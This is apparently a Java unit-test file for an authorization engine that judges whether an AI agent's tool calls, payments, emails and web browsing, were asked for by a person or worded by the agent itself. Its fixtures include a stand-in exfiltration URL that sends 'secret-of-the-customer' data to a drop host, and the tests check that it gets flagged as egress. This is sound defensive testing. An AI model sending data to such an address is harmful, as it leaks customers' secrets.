package dev.mandate.authz.engine.decisions;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mandate.authz.engine.cedar.RecordValue;
import dev.mandate.authz.engine.cedar.StringValue;
import dev.mandate.authz.engine.decisions.questions.Question;
import dev.mandate.events.identity.ToolScope;
import dev.mandate.events.ids.IdentityId;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** An agent that asks a person for a task by its own client words the task, so that its words vouch for none of its calls. */
class AgentsWordsTest {
    private static final IdentityId ITSELF = DecisionWorld.id("researcher");
    private static final String DROP = "https://drop.example/collect?d=secret-of-the-customer";

    private final DecisionWorld world = new DecisionWorld();

    @Test
    void a_task_that_the_person_worded_asks_for_what_it_says() {
        world.root("his", "pay the invoice", List.of(), null, new ToolScope("payments.transfer", List.of()));
        assertThat(asked("his", "researcher")).isEqualTo("asked");
    }

    @Test
    void one_that_the_agent_worded_asks_for_nothing_that_anybody_knows() {
        world.root("its", "pay the invoice", List.of(), ITSELF, new ToolScope("payments.transfer", List.of()));
        assertThat(asked("its", "researcher")).isEqualTo("unknown");
    }

    @Test
    void nor_does_what_is_handed_on_under_it() {
        var scope = List.of(new ToolScope("payments.transfer", List.of()));
        world.root("its", "pay the invoice", List.of(), ITSELF, scope.get(0));
        world.delegation("handed", "its", "researcher", "mailer", scope);
        assertThat(asked("handed", "mailer")).isEqualTo("unknown");
    }

    @Test
    void an_address_with_data_is_of_the_task_only_where_the_person_named_it() {
        var scope = new ToolScope("web.browse", List.of());
        world.root("his", "look it up", List.of(DROP), null, scope);
        world.root("its", "look it up", List.of(DROP), ITSELF, scope);
        assertThat(labels("his")).doesNotContain("EGRESS");
        assertThat(labels("its")).contains("EGRESS");
    }

    @Test
    void few_tools_that_the_person_named_are_meant_and_those_that_the_agent_put_together_are_not() {
        var scope = new ToolScope("email.send", List.of());
        world.root("his", "look after the inbox", List.of(), null, scope);
        world.root("its", "look after the inbox", List.of(), ITSELF, scope);
        var other = new ToolScope("web.browse", List.of());
        world.root("others", "look after the inbox", List.of(), null, other);
        var send = Map.<String, Object>of("to", List.of("bo@partner.example"), "subject", "s", "body", "b");
        assertThat(asked(DecisionCase.call("researcher", "his", "email.send", send)))
                .isEqualTo("open");
        assertThat(asked(DecisionCase.call("researcher", "its", "email.send", send)))
                .isEqualTo("unknown");
        assertThat(asked(DecisionCase.call("researcher", "others", "email.send", send)))
                .isEqualTo("unasked");
    }

    @Test
    void who_names_a_tool_that_reads_names_none_that_sends() {
        world.root("his", "look after the inbox", List.of(), null, new ToolScope("web.browse", List.of()));
        var carries = DecisionCase.call("researcher", "his", "web.browse", Map.of("url", DROP));
        assertThat(asked(carries)).isEqualTo("unasked");
    }

    private String labels(String under) {
        var question = DecisionCase.call("researcher", under, "web.browse", Map.of("url", DROP));
        return String.valueOf(of(question).tool().state().labels());
    }

    private String asked(String under, String agent) {
        var question = DecisionCase.call(
                agent, under, "payments.transfer", Map.of("amount", 5, "to", "DE02", "currency", "EUR"));
        return asked(question);
    }

    private String asked(Question question) {
        var call = (RecordValue) of(question).context().context().attributes().get("call");
        return ((StringValue) call.attributes().get("asked")).value();
    }

    private EvaluationContext of(Question question) {
        return new EvaluationContexts(
                        world.directory,
                        world.delegations,
                        () -> world.book,
                        world.sessions,
                        () -> new Freshness(world.completeUntil, Duration.ofSeconds(30), null),
                        () -> DecisionWorld.NOW)
                .of(question);
    }
}
